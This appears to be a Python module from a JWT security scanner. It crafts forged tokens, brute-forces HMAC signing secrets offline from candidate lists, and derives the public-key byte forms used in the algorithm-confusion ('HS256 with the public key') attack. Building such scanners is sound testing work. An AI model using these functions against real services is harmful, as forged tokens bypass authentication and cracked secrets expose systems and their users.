"""Crafting attack tokens by hand: base64url, JWS compact parts, HMAC signatures with the
standard library, and the byte forms of a published public key that a confused verifier
may use as an HMAC secret (PEM and DER SubjectPublicKeyInfo, PKCS#1, raw points, the JWK).

These tokens are *meant* to be invalid; producing them is the scanner's job. Nothing here
verifies a token for trust.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from typing import Any

__all__ = [
    "UnverifiedToken",
    "b64d",
    "b64e",
    "crack_hmac",
    "encode",
    "key_forms",
    "parse",
    "sign_hmac",
]

HMAC_HASHES = {"HS256": "sha256", "HS384": "sha384", "HS512": "sha512"}
_ED25519_SPKI = bytes.fromhex("302a300506032b6570032100")
_EC_SPKI = {
    "P-256": bytes.fromhex("3059301306072a8648ce3d020106082a8648ce3d030107034200"),
    "P-384": bytes.fromhex("3076301006072a8648ce3d020106052b81040022036200"),
}
_RSA_ALG_ID = bytes.fromhex("300d06092a864886f70d0101010500")


def b64e(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def b64d(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


@dataclass(frozen=True)
class UnverifiedToken:
    """The parts of a compact JWS, parsed and *not* verified."""

    header: dict[str, Any]
    payload: dict[str, Any]
    signing_input: bytes
    signature: bytes


def parse(token: str) -> UnverifiedToken | None:
    """Split a compact JWS with JSON header and payload; ``None`` if it is not one."""
    parts = token.split(".")
    if len(parts) != 3:
        return None
    try:
        header, payload = json.loads(b64d(parts[0])), json.loads(b64d(parts[1]))
        signature = b64d(parts[2])
    except (ValueError, UnicodeDecodeError):
        return None
    if not isinstance(header, dict) or not isinstance(payload, dict):
        return None
    return UnverifiedToken(header, payload, f"{parts[0]}.{parts[1]}".encode(), signature)


def _part(value: dict[str, Any]) -> str:
    return b64e(json.dumps(value, separators=(",", ":")).encode())


def encode(header: dict[str, Any], payload: dict[str, Any], signature: bytes = b"") -> str:
    """A compact token with the given parts and raw signature bytes (maybe empty)."""
    return f"{_part(header)}.{_part(payload)}.{b64e(signature)}"


def sign_hmac(header: dict[str, Any], payload: dict[str, Any], key: bytes) -> str:
    """A compact token whose signature is HMAC over the parts, with the header's ``alg``."""
    digest = HMAC_HASHES.get(str(header.get("alg")), "sha256")
    signing_input = f"{_part(header)}.{_part(payload)}"
    signature = hmac.digest(key, signing_input.encode(), digest)
    return f"{signing_input}.{b64e(signature)}"


def crack_hmac(token: UnverifiedToken, candidates: Iterable[str]) -> str | None:
    """The candidate secret that signs ``token`` (HS256/384/512), or ``None``. Offline."""
    digest = HMAC_HASHES.get(str(token.header.get("alg")))
    if digest is None:
        return None
    for candidate in candidates:
        mac = hmac.digest(candidate.encode(), token.signing_input, digest)
        if hmac.compare_digest(mac, token.signature):
            return candidate
    return None


# --- public key byte forms for the "HS256 with the public key" attack ------------------


def _der_len(n: int) -> bytes:
    if n < 0x80:
        return bytes([n])
    raw = n.to_bytes((n.bit_length() + 7) // 8, "big")
    return bytes([0x80 | len(raw)]) + raw


def _der(tag: int, body: bytes) -> bytes:
    return bytes([tag]) + _der_len(len(body)) + body


def _der_int(value: bytes) -> bytes:
    value = value.lstrip(b"\x00") or b"\x00"
    if value[0] & 0x80:
        value = b"\x00" + value
    return _der(0x02, value)


def _pem(der: bytes, label: str) -> bytes:
    body = base64.b64encode(der).decode()
    lines = [body[i : i + 64] for i in range(0, len(body), 64)]
    return ("\n".join([f"-----BEGIN {label}-----", *lines, f"-----END {label}-----"])).encode()


def _spki_and_raw(jwk: dict[str, Any]) -> tuple[bytes, list[bytes]]:
    kty = jwk.get("kty")
    if kty == "OKP" and jwk.get("crv") == "Ed25519":
        x = b64d(jwk["x"])
        return _ED25519_SPKI + x, [x]
    if kty == "EC" and jwk.get("crv") in _EC_SPKI:
        point = b"\x04" + b64d(jwk["x"]) + b64d(jwk["y"])
        return _EC_SPKI[jwk["crv"]] + point, [point]
    if kty == "RSA":
        pkcs1 = _der(0x30, _der_int(b64d(jwk["n"])) + _der_int(b64d(jwk["e"])))
        spki = _der(0x30, _RSA_ALG_ID + _der(0x03, b"\x00" + pkcs1))
        return spki, [pkcs1, _pem(pkcs1, "RSA PUBLIC KEY"), _pem(pkcs1, "RSA PUBLIC KEY") + b"\n"]
    raise ValueError("unsupported key type")


def key_forms(jwk: dict[str, Any]) -> Iterator[bytes]:
    """Byte strings a verifier that confuses algorithms might use as the HMAC key: the PEM
    SubjectPublicKeyInfo (with and without the final newline), its DER, raw key bytes, and
    the JWK as JSON. Raises ``ValueError`` for key types it does not know."""
    spki, raw = _spki_and_raw(jwk)
    pem = _pem(spki, "PUBLIC KEY")
    yield from (pem + b"\n", pem, pem.replace(b"\n", b"\r\n") + b"\r\n", spki, *raw)
    yield json.dumps(jwk, separators=(",", ":")).encode()


def key_sha256(jwk: dict[str, Any]) -> str:
    """A short fingerprint of a public key for evidence (never the key itself)."""
    return hashlib.sha256(json.dumps(jwk, sort_keys=True).encode()).hexdigest()[:16]
